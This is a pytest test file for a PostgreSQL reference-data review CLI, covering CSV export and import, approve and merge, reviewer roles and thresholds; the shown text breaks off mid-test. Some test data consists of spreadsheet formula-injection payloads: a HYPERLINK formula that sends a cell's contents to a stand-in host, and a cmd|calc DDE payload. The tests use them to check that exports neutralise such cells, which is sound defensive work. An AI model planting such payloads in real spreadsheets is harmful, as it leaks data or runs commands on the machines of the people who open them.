"""The review workflow, the thresholds and the terminal status, through the
CLI and through the SQL functions as a reviewer role calls them."""

from __future__ import annotations

import csv
import threading
import time
import uuid

import psycopg
import pytest

from helpers import shipped_single_file

from generator.config import PROJECT_ROOT
from test_backfill import apply_ok, insert_fact

SAMPLE_CONFIG = PROJECT_ROOT / "config" / "data_sources.yml"
PLAN = 'mapping."年金计划"'
PORTFOLIO = 'mapping."组合计划"'
ORG = 'mapping."组织架构"'
FACT = 'business."规模明细"'


@pytest.fixture
def derived(sample_db, cli):
    """The shipped config applied, and facts that derived two plans, a portfolio and an organisation."""
    apply_ok(cli, SAMPLE_CONFIG)
    insert_fact(sample_db, 计划代码="P90001", 计划名称="新计划", 组合代码="QT900001", 机构代码="G950")
    insert_fact(sample_db, 计划代码="P90001", 组合代码="QT900001", 机构代码="G950")
    insert_fact(sample_db, 计划代码="P90002", 组合代码="QT000001", 机构代码="G001")
    return sample_db


def reviewer(role, sample_db, name: str = "reviewer"):
    """A login role holding refdata_reviewer and nothing else."""
    return role(f"rd_{name}", ["GRANT refdata_reviewer TO {role}"])


# -- export -> edit -> import ---------------------------------------------------


def read_csv(path, encoding="utf-8"):
    with path.open(encoding=encoding, newline="") as f:
        return list(csv.reader(f))


def write_csv(path, rows, encoding="utf-8-sig"):
    with path.open("w", encoding=encoding, newline="") as f:
        csv.writer(f).writerows(rows)


def test_export_edit_import_round_trip(derived, cli, tmp_path):
    out = tmp_path / "pending.csv"
    result = cli("export-pending", "--table", "mapping.年金计划", "-o", str(out), "--excel")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"exported 2 row(s) awaiting review to {out}"
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(out, "utf-8-sig")
    header = rows[0]
    assert header[:7] == ["reference_table", "年金计划号", "计划全称", "计划类型", "客户名称", "主拓机构代码", "计划状态"]
    assert [r[1] for r in rows[1:]] == ["P90001", "P90002"]
    assert rows[1][2] == "新计划" and rows[2][2] == "(待补充)"

    rows[1][header.index("客户名称")] = "华能集团"
    rows[2][header.index("计划全称")] = "核实后的名字"
    rows[2][header.index("计划状态")] = "正常"
    write_csv(out, rows)
    result = cli("review", "import", str(out))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"reviewed 2 row(s) from {out}"
    assert derived.execute(
        f"""SELECT "年金计划号", "计划全称", "客户名称", "计划状态", "_source", "_needs_review" FROM {PLAN}
            WHERE "年金计划号" IN ('P90001', 'P90002') ORDER BY 1""").fetchall() == [
        ("P90001", "新计划", "华能集团", "待审核", "auto_derived", False),
        ("P90002", "核实后的名字", None, "正常", "auto_derived", False),
    ]
    lines = derived.execute(
        """SELECT key, new_values, action FROM refdata.audit_log WHERE action = 'review' ORDER BY key::text""").fetchall()
    assert lines == [({"年金计划号": "P90001"}, {"客户名称": "华能集团", "_needs_review": False}, "review"),
                     ({"年金计划号": "P90002"}, {"计划全称": "核实后的名字", "计划状态": "正常", "_needs_review": False}, "review")]


def test_export_of_all_tables_names_each_row_s_table(derived, cli, tmp_path):
    out = tmp_path / "all.csv"
    result = cli("export-pending", "-o", str(out))
    assert result.returncode == 0, result.stderr
    rows = read_csv(out)
    h = rows[0]
    key = {'mapping."年金计划"': "年金计划号", 'mapping."组合计划"': "组合代码", 'mapping."组织架构"': "机构代码"}
    assert sorted((r[0], r[h.index(key[r[0]])]) for r in rows[1:]) == [
        ('mapping."年金计划"', "P90001"), ('mapping."年金计划"', "P90002"),
        ('mapping."组合计划"', "QT900001"), ('mapping."组织架构"', "G950"),
    ]
    assert not out.read_bytes().startswith(b"\xef\xbb\xbf")
    # importing the untouched file marks them all reviewed and changes no value
    before = derived.execute(f"""SELECT * FROM {PORTFOLIO} ORDER BY 1""").fetchall()
    result = cli("review", "import", str(out))
    assert result.returncode == 0, result.stderr
    assert derived.execute("SELECT count(*) FROM refdata.pending_review").fetchone() == (0,)
    after = derived.execute(f"""SELECT * FROM {PORTFOLIO} ORDER BY 1""").fetchall()
    assert [r[:-3] for r in after] == [r[:-3] for r in before]


@pytest.mark.parametrize("edit, message", [
    (lambda rows, h: rows[2].__setitem__(h.index("年金计划号"), "P99999"),
     ':3: key {"年金计划号": "P99999"} does not exist in mapping."年金计划"'),
    (lambda rows, h: rows[2].__setitem__(h.index("计划状态"), "一个太长的状态值啊啊"),
     ':3: column "计划状态": value too long for type character varying(8)'),
    (lambda rows, h: rows[1].__setitem__(h.index("计划全称"), ""),
     ':2: null value in column "计划全称" of relation "年金计划" violates not-null constraint'),
])
def test_import_rejects_the_whole_file_naming_the_row(derived, cli, tmp_path, edit, message):
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "--table", "mapping.年金计划", "-o", str(out)).returncode == 0
    rows = read_csv(out)
    rows[1][rows[0].index("客户名称")] = "先改了这一行"
    edit(rows, rows[0])
    write_csv(out, rows)
    result = cli("review", "import", str(out))
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip() == f"refdata: error: {out}{message}"
    assert derived.execute(f"""SELECT count(*) FROM {PLAN} WHERE "_needs_review" """).fetchone() == (2,)
    assert derived.execute(f"""SELECT count(*) FROM {PLAN} WHERE "客户名称" = '先改了这一行'""").fetchone() == (0,)
    assert derived.execute("SELECT count(*) FROM refdata.audit_log WHERE action = 'review'").fetchone() == (0,)


def _drop_column(rows, name):
    i = rows[0].index(name)
    for r in rows:
        del r[i]


def _add_column(rows, name, value):
    rows[0].append(name)
    for r in rows[1:]:
        r.append(value)


# An edited export that cannot be imported: (edit of the rows or of the
# file's text, what the line says after FILE). Every one names the line and,
# where one is to blame, the column; exit 2; nothing imported.
BAD_IMPORTS = {
    "a header naming no reference_table": (lambda rows: rows[0].__setitem__(0, "table"),
        ":1: the header names no reference_table column (import a file written by export-pending)"),
    "a header column the table lacks": (lambda rows: rows[0].__setitem__(rows[0].index("客户名称"), "客户名"),
        ':2: column "客户名" does not exist in mapping."年金计划"'),
    "the key column missing": (lambda rows: _drop_column(rows, "年金计划号"),
        ':1: key column "年金计划号" of mapping."年金计划" is not in the header'),
    "an extra column": (lambda rows: _add_column(rows, "备注", "x"),
        ':2: column "备注" does not exist in mapping."年金计划"'),
    "a key named twice": (lambda rows: rows.append(list(rows[1])),
        ':4: key {"年金计划号": "P90001"} of mapping."年金计划" is named on line 2 too; name each row once'),
    "a key not in the table": (lambda rows: rows[2].__setitem__(1, "P99999"),
        ':3: key {"年金计划号": "P99999"} does not exist in mapping."年金计划"'),
    "a value too long for its column": (lambda rows: rows[2].__setitem__(rows[0].index("计划状态"), "一个太长的状态值啊啊"),
        ':3: column "计划状态": value too long for type character varying(8)'),
    "a table that does not exist": (lambda rows: rows[2].__setitem__(0, "mapping.nope"),
        ':3: column "reference_table": relation "mapping.nope" does not exist'),
    "a table no foreign key names": (lambda rows: rows[2].__setitem__(0, 'business."规模明细"'),
        ':3: column "reference_table": business."规模明细" is not a reference table of any configured foreign key'),
    "a reference table of another foreign key": (lambda rows: rows[2].__setitem__(0, 'mapping."组织架构"'),
        ':3: column "计划全称" does not exist in mapping."组织架构"'),
    "a row of too many fields": (lambda rows: rows[2].append("x"), ":3: 12 fields, the header has 11"),
    "an empty file": (lambda rows: rows.clear(), ": empty file (import a file written by export-pending)"),
    "a quote never closed on the last line": (None, ':3: a quoted field is never closed (its quote opens on line 3)'),
}


@pytest.mark.parametrize("case", list(BAD_IMPORTS))
def test_an_import_the_file_does_not_fit_names_line_and_column_and_changes_nothing(derived, cli, tmp_path, case):
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "--table", "mapping.年金计划", "-o", str(out), "--excel").returncode == 0
    rows = read_csv(out, "utf-8-sig")
    rows[1][rows[0].index("客户名称")] = "先改了这一行"
    edit, message = BAD_IMPORTS[case]
    if edit is None:  # the last record opens a quote it never closes
        rows[2][rows[0].index("客户名称")] = "PLACE"
        write_csv(out, rows)
        out.write_text(out.read_text(encoding="utf-8-sig").replace("PLACE", '"unclosed'), encoding="utf-8")
    else:
        edit(rows)
        write_csv(out, rows)
    before = derived.execute(f"SELECT * FROM {PLAN} ORDER BY 1").fetchall()
    result = cli("review", "import", str(out))
    assert (result.returncode, result.stderr) == (2, f"refdata: error: {out}{message}\n")
    assert derived.execute(f"SELECT * FROM {PLAN} ORDER BY 1").fetchall() == before
    assert derived.execute("SELECT count(*) FROM refdata.audit_log WHERE action = 'review'").fetchone() == (0,)


def test_an_import_of_a_file_with_crlf_line_ends_and_a_bom_is_read_as_written(derived, cli, tmp_path):
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "--table", "mapping.年金计划", "-o", str(out), "--excel").returncode == 0
    rows = read_csv(out, "utf-8-sig")
    rows[2][rows[0].index("计划状态")] = "正常"
    with out.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows(rows)
    result = cli("review", "import", str(out))
    assert result.returncode == 0, result.stderr
    assert derived.execute(f"""SELECT "年金计划号", "计划状态", "_needs_review" FROM {PLAN}
                               WHERE "年金计划号" IN ('P90001', 'P90002') ORDER BY 1""").fetchall() == [
        ("P90001", "待审核", False), ("P90002", "正常", False)]


def test_import_refuses_rows_no_longer_awaiting_review_instead_of_overwriting_them(derived, cli, tmp_path):
    """A file exported before the row was made authoritative (or reviewed by
    someone else) carries stale values: importing it must not write them back."""
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "--table", "mapping.年金计划", "-o", str(out)).returncode == 0
    # meanwhile a legacy loader inserts the authoritative row (promoted on insert)
    derived.execute(f"""INSERT INTO {PLAN} ("年金计划号", "计划全称", "计划状态") VALUES ('P90002', '权威名称', '正常')""")
    before = derived.execute(f"SELECT * FROM {PLAN} ORDER BY 1").fetchall()
    result = cli("review", "import", str(out))
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip() == (
        f'refdata: error: {out}:3: key {{"年金计划号": "P90002"}} of mapping."年金计划" no longer awaits review '
        "(reviewed or made authoritative since the export, or named on an earlier line); export again")
    assert derived.execute(f"SELECT * FROM {PLAN} ORDER BY 1").fetchall() == before
    assert derived.execute("SELECT count(*) FROM refdata.audit_log WHERE action = 'review'").fetchone() == (0,)


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
            "\tpadded", "'=already quoted", "-5", "+3.25", "1e3", "'plain", "plain"]


def test_export_keeps_spreadsheets_from_running_cells_and_import_reads_them_back(derived, cli, tmp_path):
    """Key values and names come from fact files: a cell starting with = + - @
    (or a tab or CR) is a formula to Excel and LibreOffice when the file is
    opened. The export writes such text with a leading apostrophe (numbers
    stay as they are); the import takes it off again, so values round-trip."""
    for i, text in enumerate(FORMULAS):
        insert_fact(derived, 计划代码=f"P8{i:04d}", 计划名称=text, 组合代码="QT000001")
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "--table", "mapping.年金计划", "-o", str(out), "--excel").returncode == 0
    rows = read_csv(out, "utf-8-sig")
    name = rows[0].index("计划全称")
    cells = {r[1]: r[name] for r in rows[1:]}
    assert [cells[f"P8{i:04d}"] for i in range(len(FORMULAS))] == [
        "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1)",
        "'\tpadded", "''=already quoted", "-5", "+3.25", "1e3", "'plain", "plain"]
    assert [cell for r in rows[1:] for cell in r if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == ["-5", "+3.25"]
    result = cli("review", "import", str(out))
    assert result.returncode == 0, result.stderr
    assert derived.execute(f"""SELECT "计划全称" FROM {PLAN} WHERE "年金计划号" LIKE 'P8%' ORDER BY 年金计划号""").fetchall() == [
        (t,) for t in FORMULAS]


def test_export_counts_rows_not_lines_and_keeps_a_line_break_in_a_value(derived, cli, tmp_path):
    derived.execute(f"""UPDATE {PLAN} SET "计划全称" = E'第一行\\n第二行\\r\\n第三行' WHERE "年金计划号" = 'P90001'""")
    out = tmp_path / "pending.csv"
    result = cli("export-pending", "--table", "mapping.年金计划", "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"exported 2 row(s) awaiting review to {out}"
    rows = read_csv(out)
    assert rows[1][rows[0].index("计划全称")] == "第一行\n第二行\r\n第三行"
    assert cli("review", "import", str(out)).returncode == 0
    assert derived.execute(f"""SELECT "计划全称" FROM {PLAN} WHERE "年金计划号" = 'P90001'""").fetchone() == (
        "第一行\n第二行\r\n第三行",)


def test_import_of_a_file_excel_saved_in_gbk_names_the_line_and_how_to_convert_it(derived, cli, tmp_path):
    """Excel on Chinese Windows saves "CSV" in GBK, not UTF-8."""
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "--table", "mapping.年金计划", "-o", str(out), "--excel").returncode == 0
    rows = read_csv(out, "utf-8-sig")
    write_csv(out, rows, encoding="gbk")
    result = cli("review", "import", str(out))
    assert result.returncode == 2
    first = next(b for b in out.read_bytes() if b > 127)  # in the header's Chinese column names
    assert result.stderr == (f"refdata: error: {out}:1: not UTF-8 (byte 0x{first:02x}); it reads as GBK: "
                             "convert it with iconv -f gbk -t utf-8\n")
    assert derived.execute(f"""SELECT count(*) FROM {PLAN} WHERE "_needs_review" """).fetchone() == (2,)


def test_an_untouched_empty_text_stays_empty_text_and_an_empty_cell_is_null(derived, cli, tmp_path):
    """COPY writes NULL as an empty cell and an empty text as "": the import
    reads them back apart, so a row nobody edited keeps its values."""
    derived.execute(f"""UPDATE {PLAN} SET "计划全称" = '', "客户名称" = NULL WHERE "年金计划号" = 'P90001'""")
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "--table", "mapping.年金计划", "-o", str(out)).returncode == 0
    result = cli("review", "import", str(out))
    assert result.returncode == 0, result.stderr  # 计划全称 is NOT NULL: NULL would be refused
    assert derived.execute(f"""SELECT "计划全称", "客户名称" FROM {PLAN} WHERE "年金计划号" = 'P90001'""").fetchone() == (
        "", None)


def test_export_of_a_table_name_that_does_not_parse_names_the_option(derived, cli, tmp_path):
    result = cli("export-pending", "--table", 'mapping."年金计划', "-o", str(tmp_path / "x.csv"))
    assert result.returncode == 2
    assert result.stderr == ('refdata: error: --table mapping."年金计划: '
                             'string is not a valid identifier: "mapping."年金计划"\n')


# -- approve and merge ---------------------------------------------------------


def test_approve_by_cli_and_by_a_reviewer_role_without_write_rights(derived, cli, role):
    result = cli("review", "approve", "mapping.年金计划", "P90001")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "approved 1 row(s) of mapping.年金计划"
    assert derived.execute(f"""SELECT "_needs_review" FROM {PLAN} WHERE "年金计划号" = 'P90001'""").fetchone() == (False,)

    r = reviewer(role, derived)
    with pytest.raises(psycopg.errors.InsufficientPrivilege):
        r.execute(f"""UPDATE {PLAN} SET "_needs_review" = false""")
    assert r.execute("""SELECT refdata.review_approve('mapping."组织架构"', '["G950"]')""").fetchone() == (1,)
    assert r.execute("SELECT key FROM refdata.pending_review ORDER BY 1").fetchall() == [("P90002",), ("QT900001",)]
    line = derived.execute(
        """SELECT session_user_name::text, action, new_values FROM refdata.audit_log
           WHERE key = '{"机构代码": "G950"}' AND operation = 'UPDATE'""").fetchone()
    assert line == (r.info.user, "approve", {"_needs_review": False})

    unknown = cli("review", "approve", "mapping.年金计划", "P90002", "P12345")
    assert unknown.returncode == 2
    assert unknown.stderr.strip() == 'refdata: error: key {"年金计划号": "P12345"} does not exist in mapping."年金计划"'
    assert derived.execute(f"""SELECT "_needs_review" FROM {PLAN} WHERE "年金计划号" = 'P90002'""").fetchone() == (True,)


def test_merge_repoints_facts_of_every_domain_and_leaves_no_orphan(sample_db, cli, write_config):
    # two domains on two fact tables name plans
    sample_db.execute(f"""CREATE TABLE business."计划费用" ("计划代码" varchar(32) REFERENCES {PLAN}, "费用" numeric)""")
    text = shipped_single_file() + """
  plan_fees:
    fact_schema: business
    fact_table: 计划费用
    foreign_keys:
      - name: fk_fee_plan
        source_column: 计划代码
        target_schema: mapping
        target_table: 年金计划
        target_key: 年金计划号
        defaults: {计划全称: "(待补充)", 计划状态: 待审核}
"""
    apply_ok(cli, write_config(text))
    insert_fact(sample_db, 计划代码="P9OOO1", 组合代码="QT900001")  # a typo of P90001: O for 0
    insert_fact(sample_db, 计划代码="P9OOO1", 组合代码="QT000001")
    sample_db.execute("""INSERT INTO business."计划费用" VALUES ('P9OOO1', 10), ('P00001', 20)""")
    assert sample_db.execute(f"""SELECT "年金计划号" FROM {PORTFOLIO} WHERE "组合代码" = 'QT900001'""").fetchone() == ("P9OOO1",)

    result = cli("review", "merge", "mapping.年金计划", "P9OOO1", "P00007")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == ("merged P9OOO1 into P00007 in mapping.年金计划; rows re-pointed: "
                                     "annuity_performance.fk_plan: 2, plan_fees.fk_fee_plan: 1, 组合计划_年金计划号_fkey: 1")
    assert sample_db.execute(f"""SELECT count(*) FROM {PLAN} WHERE "年金计划号" = 'P9OOO1'""").fetchone() == (0,)
    assert sample_db.execute(f"""SELECT count(*) FROM {FACT} WHERE "计划代码" = 'P00007'""").fetchone() == (2,)
    assert sample_db.execute("""SELECT "计划代码" FROM business."计划费用" ORDER BY 1""").fetchall() == [("P00001",), ("P00007",)]
    assert sample_db.execute(f"""SELECT "年金计划号" FROM {PORTFOLIO} WHERE "组合代码" = 'QT900001'""").fetchone() == ("P00007",)
    orphans = sample_db.execute(
        f"""SELECT count(*) FROM (SELECT "计划代码" FROM {FACT} UNION ALL SELECT "计划代码" FROM business."计划费用") AS f
            WHERE NOT EXISTS (SELECT FROM {PLAN} AS p WHERE p."年金计划号" = f."计划代码")""").fetchone()
    assert orphans == (0,)
    line = sample_db.execute(
        """SELECT operation, action, key, new_values FROM refdata.audit_log WHERE action = 'merge'""").fetchall()
    assert line == [("DELETE", "merge", {"年金计划号": "P9OOO1"}, {
        "merged_into": {"年金计划号": "P00007"},
        "repointed": {"annuity_performance.fk_plan": 2, "plan_fees.fk_fee_plan": 1, "组合计划_年金计划号_fkey": 1}})]


def test_merge_leaves_no_orphan_when_a_fact_naming_the_wrong_key_commits_meanwhile(derived, dsn):
    """Without declared FK constraints (as in production) nothing but the
    merge itself keeps a fact row inserted while it runs from naming the key
    it deletes: it waits for the writers of the fact tables in flight, and
    re-points their rows too."""
    derived.execute(f'ALTER TABLE {FACT} DROP CONSTRAINT "规模明细_计划代码_fkey"')
    with psycopg.connect(dsn) as writer, psycopg.connect(dsn, autocommit=True) as merger:
        insert_fact(writer, 计划代码="P90001", 组合代码="QT000001")  # the parent exists: no lock, not committed
        outcome = {}

        def merge():
            try:
                outcome["result"] = merger.execute(
                    """SELECT refdata.review_merge('mapping."年金计划"', '"P90001"', '"P00001"')""").fetchone()[0]
            except psycopg.Error as e:
                outcome["error"] = e.sqlstate

        thread = threading.Thread(target=merge)
        thread.start()
        deadline = time.monotonic() + 10
        while thread.is_alive() and time.monotonic() < deadline:
            if derived.execute("SELECT wait_event_type FROM pg_stat_activity WHERE pid = %s",
                               [merger.info.backend_pid]).fetchone()[0] == "Lock":
                break
            time.sleep(0.02)
        writer.commit()
        thread.join()
    assert "error" not in outcome, outcome
    assert outcome["result"]["repointed"]["annuity_performance.fk_plan"] == 3
    orphans = derived.execute(f"""SELECT count(*) FROM {FACT} AS f WHERE NOT EXISTS (
                                      SELECT FROM {PLAN} AS p WHERE p."年金计划号" = f."计划代码")""").fetchone()
    assert orphans == (0,)


def test_merge_into_a_key_a_fact_column_would_cut_fails_and_changes_nothing(sample_db, cli, write_config):
    # A fact column shorter than the parent key: 'ab    ' assigned to
    # varchar(3) is 'ab ', another key. The merge fails as a key too long would.
    sample_db.execute("""CREATE TABLE plan (code varchar(10) PRIMARY KEY); CREATE TABLE f (code varchar(3));
                         INSERT INTO plan VALUES ('ab    ')""")
    apply_ok(cli, write_config("domains:\n  d:\n    fact_table: f\n    foreign_keys:\n      - name: fk_plan\n"
                                "        source_column: code\n        target_table: plan\n        target_key: code\n"))
    sample_db.execute("INSERT INTO f VALUES ('zz')")
    sample_db.commit()
    result = cli("review", "merge", "public.plan", "zz", "ab    ")
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip() == ('refdata: error: cannot merge into key {"code": "ab    "} of public.plan: '
                                     'd.fk_plan (code) of public.f does not fit it (it would be stored as another key)')
    assert sample_db.execute("SELECT code FROM f").fetchall() == [("zz",)]
    assert sample_db.execute("SELECT code, _source FROM plan ORDER BY 1").fetchall() == [
        ("ab    ", "authoritative"), ("zz", "auto_derived")]


@pytest.mark.parametrize("options", [["--verify", "per-row"], ["--rejects", "REJECTS"]], ids=["per-row", "rejects"])
def test_merge_leaves_no_orphan_when_a_load_naming_the_wrong_key_runs_meanwhile(derived, cli, dsn, tmp_path, options):
    """A load through the staging table (per-row checks, or with --rejects)
    whose file names WRONG while a merge of WRONG into RIGHT runs, on a fact
    table without declared FK constraints: the load must not decide that
    WRONG exists before the merge is done with the fact table, or its facts
    commit naming a key the merge deleted. It waits for the merge, then
    derives WRONG again (for review), as a single-row INSERT does."""
    derived.execute(f'ALTER TABLE {FACT} DROP CONSTRAINT "规模明细_计划代码_fkey"')
    facts = tmp_path / "facts.csv"
    facts.write_text("月度,计划代码,期末资产规模\n2025-11-01,P90001,1\n", encoding="utf-8")
    options = [str(tmp_path / "rejects.csv") if o == "REJECTS" else o for o in options]
    outcome = {}
    with psycopg.connect(dsn) as merger:
        merger.execute("""SELECT refdata.review_merge('mapping."年金计划"', '"P90001"', '"P00001"')""")
        thread = threading.Thread(target=lambda: outcome.update(
            load=cli("load", "annuity_performance", str(facts), *options,
                     env={"PGOPTIONS": "-c statement_timeout=60s"})))
        thread.start()
        deadline = time.monotonic() + 30
        while not derived.execute(
                """SELECT EXISTS (SELECT FROM pg_locks AS l JOIN pg_stat_activity AS a ON a.pid = l.pid
                                  WHERE NOT l.granted AND a.datname = current_database()
                                    AND a.application_name <> 'pg_cron')""").fetchone()[0]:
            assert thread.is_alive() and time.monotonic() < deadline, outcome  # the load must wait for the merge
            time.sleep(0.02)
        merger.commit()
        thread.join()
    assert outcome["load"].returncode == 0, outcome["load"].stderr
    assert "mapping.年金计划 1" in outcome["load"].stdout  # WRONG derived again
    orphans = derived.execute(f"""SELECT count(*) FROM {FACT} AS f WHERE f."计划代码" IS NOT NULL AND NOT EXISTS (
                                      SELECT FROM {PLAN} AS p WHERE p."年金计划号" = f."计划代码")""").fetchone()
    assert orphans == (0,)
    assert derived.execute(f"""SELECT "_source", "_needs_review" FROM {PLAN}
                               WHERE "年金计划号" = 'P90001'""").fetchone() == ("auto_derived", True)


def test_merge_of_unknown_keys_changes_nothing(derived, cli):
    result = cli("review", "merge", "mapping.年金计划", "P90001", "P77777")
    assert result.returncode == 2
    assert result.stderr.strip() == 'refdata: error: key {"年金计划号": "P77777"} does not exist in mapping."年金计划"'
    same = cli("review", "merge", "mapping.年金计划", "P90001", "P90001")
    assert same.returncode == 2 and "into itself" in same.stderr
    assert derived.execute(f"""SELECT count(*) FROM {FACT} WHERE "计划代码" = 'P90001'""").fetchone() == (2,)


@pytest.mark.parametrize("args, message", [
    (["approve", "mapping.nope", "K"], 'TABLE mapping.nope: relation "mapping.nope" does not exist'),
    (["approve", "nope.年金计划", "K"], 'TABLE nope.年金计划: schema "nope" does not exist'),
    (["approve", "a.b.c.d", "K"], "TABLE a.b.c.d: improper relation name (too many dotted names): a.b.c.d"),
    (["merge", 'business."规模明细"', "A", "B"],
     'TABLE business."规模明细": business."规模明细" is not a reference table of any configured foreign key'),
])
def test_a_table_argument_review_cannot_take_is_named_as_the_argument(derived, cli, args, message):
    before = derived.execute(f"SELECT * FROM {PLAN} ORDER BY 1").fetchall()
    result = cli("review", *args)
    assert (result.returncode, result.stderr) == (2, f"refdata: error: review {args[0]}: {message}\n")
    assert derived.execute(f"SELECT * FROM {PLAN} ORDER BY 1").fetchall() == before


def test_reviewer_role_can_merge_and_export_without_table_rights(derived, role, tmp_path):
    r = reviewer(role, derived, "merger")
    with pytest.raises(psycopg.errors.InsufficientPrivilege):
        r.execute(f"SELECT * FROM {FACT}")
    result = r.execute("""SELECT refdata.review_merge('mapping."组织架构"', '"G950"', '"G001"')""").fetchone()[0]
    assert result["repointed"]["annuity_performance.fk_organization"] == 2
    assert r.execute("SELECT count(*) FROM refdata.pending_rows()").fetchone() == (3,)


# -- thresholds and status -------------------------------------------------------


def test_check_exits_1_with_one_line_per_breach_and_0_when_all_hold(derived, cli, write_config):
    strict = write_config(shipped_single_file() + """
observability:
  thresholds: {auto_derived_ratio: 0.03, pending_review: 100}
  tables:
    mapping.年金计划: {thresholds: {pending_review: 1}}
""", "strict.yml")
    result = cli("--config", str(strict), "check")
    assert result.returncode == 1, result.stderr
    assert result.stdout.splitlines() == [
        "mapping.年金计划: auto_derived_ratio 4.76% > 3.00% (2 of 42 rows auto-derived)",
        "mapping.年金计划: pending_review 2 > 1 (2 rows await review)",
        "mapping.组织架构: auto_derived_ratio 9.09% > 3.00% (1 of 11 rows auto-derived)",
    ]
    default = cli("--config", str(SAMPLE_CONFIG), "check")
    assert default.returncode == 0, default.stdout
    assert default.stdout.strip() == "ok: 4 reference table(s) within their thresholds"


def test_check_on_a_database_without_refdata_fails_with_one_line(sample_db, cli):
    result = cli("--config", str(SAMPLE_CONFIG), "check")
    assert result.returncode == 1
    assert result.stderr.strip() == "refdata: error: refdata is not applied to this database (no refdata views); run refdata apply"


def test_status_prints_quality_and_coverage(derived, cli):
    result = cli("status")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "reference tables"
    plan = next(line for line in lines if line.startswith("mapping.年金计划 "))
    assert plan.split()[:6] == ["mapping.年金计划", "42", "40", "2", "2", "4.8%"]
    fk = next(line for line in lines if " fk_plan " in line)
    assert fk.split() == ["annuity_performance", "fk_plan", "mapping.年金计划", "2", "0", "2", "0", "0.0%"]


def test_a_configured_reviewer_role_is_made_whatever_its_name(sample_db, cli, write_config, dsn):
    name = f"rd_rev_$refdata$_{uuid.uuid4().hex[:8]}"  # the dollar tag of the generated code, in a name
    text = shipped_single_file() + f"observability:\n  reviewer_role: '{name}'\n"
    try:
        apply_ok(cli, write_config(text))
        granted = sample_db.execute(
            "SELECT has_function_privilege(%s, 'refdata.review_approve(text, jsonb)', 'EXECUTE'), "
            "has_table_privilege(%s, 'mapping.\"年金计划\"', 'UPDATE')", [name, name]).fetchone()
        assert granted == (True, False)
    finally:
        with psycopg.connect(dsn, autocommit=True) as admin:
            if admin.execute("SELECT 1 FROM pg_roles WHERE rolname = %s", [name]).fetchone():
                admin.execute(f'DROP OWNED BY "{name}"')
                admin.execute(f'DROP ROLE "{name}"')


PUBLIC_TABLES = """
CREATE TABLE plans (code text PRIMARY KEY, name text);
CREATE TABLE facts (code text, amount numeric);
"""
PUBLIC_CONFIG = """
domains:
  facts:
    fact_schema: public
    fact_table: facts
    foreign_keys:
      - {name: fk_plan, source_column: code, target_schema: public, target_table: plans, target_key: code}
"""


def test_a_reference_table_on_the_reviewers_search_path_round_trips(db, cli, write_config, role, tmp_path):
    """A table in a schema on the session's search_path (public, say) is
    written unqualified by the export, as regclass prints it there; the
    import, which resolves names as the owner with search_path pg_catalog,
    pg_temp, found no such table and refused the file."""
    db.execute(PUBLIC_TABLES)
    assert cli("--config", str(write_config(PUBLIC_CONFIG)), "apply").returncode == 0
    db.execute("INSERT INTO facts VALUES ('N1', 1)")
    out = tmp_path / "pending.csv"
    result = cli("export-pending", "-o", str(out))
    assert result.returncode == 0, result.stderr
    rows = read_csv(out)
    assert rows[1][:2] == ["public.plans", "N1"], rows
    rows[1][rows[0].index("name")] = "reviewed name"
    write_csv(out, rows)
    result = cli("review", "import", str(out))
    assert result.returncode == 0, result.stderr
    assert db.execute("SELECT name, _needs_review FROM plans").fetchall() == [("reviewed name", False)]
    # approve and merge take the table as the session's search_path finds it too
    db.execute("INSERT INTO facts VALUES ('N2', 1), ('N3', 1)")
    result = cli("review", "approve", "plans", "N2")
    assert result.returncode == 0, result.stderr
    result = cli("review", "merge", "plans", "N3", "N2")
    assert result.returncode == 0, result.stderr
    assert db.execute("SELECT code, _needs_review FROM plans ORDER BY code").fetchall() == [("N1", False), ("N2", False)]


def test_a_column_name_a_spreadsheet_would_run_is_quoted_in_the_header_and_read_back(db, cli, write_config, tmp_path):
    """Column names come from whoever made the table: a header cell such as
    `=HYPERLINK(...)` is a formula to Excel as much as a value is. The
    header gets the values' leading apostrophe, and the import takes it off."""
    formula = '=HYPERLINK("http://x.example/?"&A2,"ok")'
    db.execute(PUBLIC_TABLES.replace("name text", f'name text, "{formula.replace(chr(34), chr(34) * 2)}" text, "@x" text'))
    assert cli("--config", str(write_config(PUBLIC_CONFIG)), "apply").returncode == 0
    db.execute("INSERT INTO facts VALUES ('N1', 1)")
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "-o", str(out), "--excel").returncode == 0
    rows = read_csv(out, "utf-8-sig")
    assert [c for c in rows[0] if c[:1] in "=+-@"] == [], rows[0]
    assert "'" + formula in rows[0] and "'@x" in rows[0]
    rows[1][rows[0].index("'" + formula)] = "a"
    rows[1][rows[0].index("'@x")] = "b"
    write_csv(out, rows)
    result = cli("review", "import", str(out))
    assert result.returncode == 0, result.stderr
    assert db.execute(f'SELECT "{formula.replace(chr(34), chr(34) * 2)}", "@x" FROM plans').fetchall() == [("a", "b")]


@pytest.mark.parametrize("where", ["cell", "header"])
def test_a_nul_byte_in_an_edited_file_is_refused_naming_line_and_column(db, cli, write_config, tmp_path, where):
    """PostgreSQL text holds no NUL: the server's message was 'unsupported
    Unicode escape sequence', naming neither line nor column."""
    db.execute(PUBLIC_TABLES)
